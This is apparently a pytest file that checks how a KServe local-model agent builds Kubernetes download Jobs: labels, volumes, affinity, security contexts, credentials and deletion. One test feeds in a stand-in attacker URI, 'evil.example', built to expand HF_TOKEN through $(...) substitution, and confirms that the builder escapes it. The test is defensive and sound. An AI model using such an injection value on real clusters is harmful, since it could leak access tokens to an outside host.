"""The download Job's shape (kserve-behaviour.md 8 with design.md's changes)."""

from __future__ import annotations

import re
from typing import Any

import pytest

from localmodel.agent.additions import Credentials
from localmodel.agent.errors import DownloadSetupError
from localmodel.agent.jobs import DownloadRequest, build_job, delete_job, job_name, label_value
from localmodel.api.config import InferenceServiceConfig, LocalModelConfig, StorageInitializerConfig
from localmodel.api.container import ClusterStorageContainer
from localmodel.api.names import storage_key
from localmodel.api.node import LocalModelInfo, LocalModelNode
from localmodel.runtime.objects import Job, ObjectMeta
from localmodel.runtime.testing.fake import FakeClient

URI = "s3://mybucket/mymodel"
NODE = LocalModelNode(metadata=ObjectMeta(name="node-1", uid="uid-1"))
CONFIG = InferenceServiceConfig(
    local_model=LocalModelConfig(fs_group=1000, job_ttl_seconds_after_finished=30),
    storage_initializer=StorageInitializerConfig(image="kserve/storage-initializer:latest", memory_limit="1Gi"),
)


def entry(**changes: Any) -> LocalModelInfo:
    return LocalModelInfo(**{"source_model_uri": URI, "model_name": "iris", "node_group": "gpu1", **changes})


def job(**changes: Any) -> Job:
    return build_job(DownloadRequest(**{"node": NODE, "entry": entry(), "attempt": 1, "config": CONFIG, **changes}))


def container_of(job: Job) -> dict[str, Any]:
    (container,) = job.spec.template["spec"]["containers"]
    return container  # type: ignore[no-any-return]


def test_the_job_is_owned_by_the_local_model_node_and_lies_in_the_job_namespace() -> None:
    made = job()
    owner = made.metadata.owner_references[0]
    assert (owner.kind, owner.name, owner.uid, owner.controller) == ("LocalModelNode", "node-1", "uid-1", True)
    assert made.namespace == "kserve-localmodel-jobs"


def test_the_job_has_kserves_labels() -> None:
    labels = {"model": "iris", "node": "node-1"}
    assert labels.items() <= job().metadata.labels.items()
    assert "modelNamespace" not in job().metadata.labels
    assert job(entry=entry(namespace="team-a")).metadata.labels["modelNamespace"] == "team-a"


def test_the_container_downloads_into_staging_only() -> None:
    container = container_of(job())
    assert container["args"] == [URI, "/mnt/models"]
    assert container["volumeMounts"] == [
        {"name": "kserve-pvc-source", "mountPath": "/mnt/models", "subPath": f"models/.staging/{storage_key(URI)}"}
    ]
    assert container["name"] == "kserve-localmodel-download"
    assert container["image"] == "kserve/storage-initializer:latest"
    assert container["terminationMessagePolicy"] == "FallbackToLogsOnError"
    assert container["resources"] == {"limits": {"memory": "1Gi"}}
    assert (container["securityContext"]["runAsUser"], container["securityContext"]["runAsGroup"]) == (1000, 1000)


@pytest.mark.parametrize(("namespace", "claim"), [("", "iris-gpu1"), ("team-a", "iris-gpu1-team-a-download")])
def test_the_claim_is_the_download_claim_of_the_caches_scope(namespace: str, claim: str) -> None:
    volumes = job(entry=entry(namespace=namespace)).spec.template["spec"]["volumes"]
    assert volumes == [{"name": "kserve-pvc-source", "persistentVolumeClaim": {"claimName": claim}}]


def test_the_pod_is_pinned_by_the_nodes_name_and_left_to_the_scheduler_d37() -> None:
    pod = job().spec.template["spec"]
    terms = pod["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
    assert terms == [{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["node-1"]}]}]
    assert not {"nodeName", "nodeSelector"} & pod.keys()
    assert pod["restartPolicy"] == "Never"


def test_the_pods_security_context_changes_no_other_models_group_d22() -> None:
    security = {"seccompProfile": {"type": "RuntimeDefault"}}
    group = {"fsGroup": 1000, "fsGroupChangePolicy": "OnRootMismatch"}
    assert job().spec.template["spec"]["securityContext"] == security | group
    without = InferenceServiceConfig(local_model=LocalModelConfig(fs_group=None))
    assert job(config=without).spec.template["spec"]["securityContext"] == security


def test_the_groups_tolerations_go_into_the_pod_d37() -> None:
    gpu = {"key": "nvidia.com/gpu", "operator": "Exists"}
    assert job(tolerations=[gpu]).spec.template["spec"]["tolerations"] == [gpu]
    assert "tolerations" not in job().spec.template["spec"]


def test_priority_deadline_and_pull_secrets_are_those_of_the_configuration() -> None:
    assert not {"priorityClassName", "imagePullSecrets"} & job().spec.template["spec"].keys()
    assert job().spec.active_deadline_seconds is None
    settings = LocalModelConfig(job_priority_class_name="low", job_active_deadline_seconds=3600)
    made = job(config=InferenceServiceConfig(local_model=settings), image_pull_secrets=["regcred"])
    assert made.spec.template["spec"]["priorityClassName"] == "low"
    assert made.spec.template["spec"]["imagePullSecrets"] == [{"name": "regcred"}]
    assert made.spec.active_deadline_seconds == 3600


def test_what_a_uri_says_is_taken_as_it_stands() -> None:
    made = job(entry=entry(source_model_uri="https://evil.example/$(HF_TOKEN)/$$x"))
    assert container_of(made)["args"] == ["https://evil.example/$$(HF_TOKEN)/$$$$x", "/mnt/models"]
    assert made.metadata.annotations["localmodel.kserve.io/source-uri"] == "https://evil.example/$(HF_TOKEN)/$$x"


def test_the_clusters_own_token_is_in_no_download_d49() -> None:
    pod = job(credentials=Credentials(service_account="reader", pod_labels={"a": "b"})).spec.template
    assert (pod["spec"]["serviceAccountName"], pod["spec"]["automountServiceAccountToken"]) == ("reader", False)
    assert pod["metadata"]["labels"]["a"] == "b"


def test_failed_pods_are_replaced_only_once_they_are_gone() -> None:
    spec = job().spec
    assert (spec.pod_replacement_policy, spec.backoff_limit, spec.ttl_seconds_after_finished) == ("Failed", 2, 600)


def test_the_name_changes_with_each_attempt_and_never_by_itself_d47() -> None:
    base = {"model": "iris", "namespace": "", "node": "node-1", "node_uid": "u", "uri": URI, "attempt": 1}
    names = {
        job_name(**{**base, **change})
        for change in (  # type: ignore[arg-type]
            {},
            {},
            {"attempt": 2},
            {"namespace": "team-a"},
            {"uri": "s3://x"},
            {"node_uid": "v"},
            {"node": "node-2"},
        )
    }
    assert len(names) == 6
    assert all(name.startswith("iris-node-") for name in names)


@pytest.mark.parametrize("model", ["m" * 253, "has.dots." + "x" * 60, "a"])
def test_names_that_are_too_long_still_make_a_valid_job_d43(model: str) -> None:
    made = job(
        entry=entry(model_name=model, namespace="n" * 63),
        node=LocalModelNode(metadata=ObjectMeta(name="node." * 30 + "x", uid="u")),
    )
    assert re.fullmatch(r"[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?", made.name)
    for value in made.metadata.labels.values():
        assert re.fullmatch(r"[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?", value)
    assert made.metadata.annotations["localmodel.kserve.io/model"] == model


def test_different_long_names_get_different_labels_d43() -> None:
    assert label_value("a" * 70) != label_value("a" * 71)
    assert label_value("node-1") == "node-1"


def test_a_cluster_storage_containers_own_settings_stay() -> None:
    csc = ClusterStorageContainer.from_dict(
        {
            "metadata": {"name": "hub"},
            "spec": {
                "container": {
                    "name": "storage-initializer",
                    "image": "hub:1",
                    "env": [{"name": "HF_TOKEN", "value": "x"}],
                    "securityContext": {"runAsUser": 7},
                    "volumeMounts": [{"name": "other", "mountPath": "/x"}],
                }
            },
        }
    )
    container = container_of(job(container=csc))
    assert (container["name"], container["image"], container["args"]) == (
        "storage-initializer",
        "hub:1",
        [URI, "/mnt/models"],
    )
    assert container["env"] == [{"name": "HF_TOKEN", "value": "x"}]
    assert [mount["name"] for mount in container["volumeMounts"]] == ["kserve-pvc-source"]
    assert container["securityContext"]["runAsUser"] == 7
    assert container["securityContext"]["runAsGroup"] == 1000
    assert "runAsNonRoot" not in container["securityContext"]
    assert "args" not in csc.spec.container


def test_credentials_are_added_as_references() -> None:
    token = {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf", "key": "HF_TOKEN"}}}
    made = job(credentials=Credentials(env=(token,), service_account="runner"))
    assert container_of(made)["env"] == [token]
    assert made.spec.template["spec"]["serviceAccountName"] == "runner"
    assert job().spec.template["spec"]["automountServiceAccountToken"] is False


def test_credentials_go_before_a_containers_own_and_what_the_cache_selects_before_both() -> None:
    names = ("A", "HF_TOKEN", "LOCALMODEL_DOWNLOAD_REVISION")
    own = {"image": "hub:1", "env": [{"name": name, "value": "container"} for name in names]}
    csc = ClusterStorageContainer.from_dict({"metadata": {"name": "hub"}, "spec": {"container": own}})
    given = tuple({"name": name, "value": "credentials"} for name in names[1:])
    made = job(container=csc, credentials=Credentials(env=given), entry=entry(revision="v1"))
    assert [item["value"] for item in container_of(made)["env"]] == ["container", "credentials", "v1"]


def test_what_to_download_is_said_only_where_the_cache_says_it() -> None:
    assert "env" not in container_of(job())
    env = container_of(job(entry=entry(include=["*.json"], exclude=["*.bin"], revision="v1")))["env"]
    assert env == [
        {"name": "LOCALMODEL_DOWNLOAD_REVISION", "value": "v1"},
        {"name": "STORAGE_ALLOW_PATTERNS", "value": '["*.json"]'},
        {"name": "STORAGE_IGNORE_PATTERNS", "value": '["*.bin"]'},
    ]


def test_an_entry_without_a_node_group_is_refused() -> None:
    with pytest.raises(DownloadSetupError, match="iris on LocalModelNode node-1 names no node group"):
        job(entry=entry(node_group=""))


def test_the_job_mounts_the_claim_that_it_is_told() -> None:
    volume = job(claim="iris-gpu1-0a1b2c3d").spec.template["spec"]["volumes"][0]
    assert volume["persistentVolumeClaim"] == {"claimName": "iris-gpu1-0a1b2c3d"}


# its end ---------------------------------------------------------------------------------------------------------


def test_a_job_is_deleted_with_its_pods_and_not_another_of_its_name() -> None:
    client = FakeClient()
    old = client.create(job())
    delete_job(client, old)
    assert client.list(Job) == []
    new = client.create(job())
    delete_job(client, old)
    assert [it.metadata.uid for it in client.list(Job)] == [new.metadata.uid]
    assert {action.options.propagation for action in client.writes if action.verb == "delete"} == {"Background"}


def test_a_job_that_is_going_or_gone_is_left_alone() -> None:
    client = FakeClient()
    made = job()
    made.metadata.finalizers = ["example.com/hold"]
    client.delete(client.create(made))
    (going,) = client.list(Job)
    client.actions.clear()
    delete_job(client, going)
    assert client.writes == []
    delete_job(client, job())
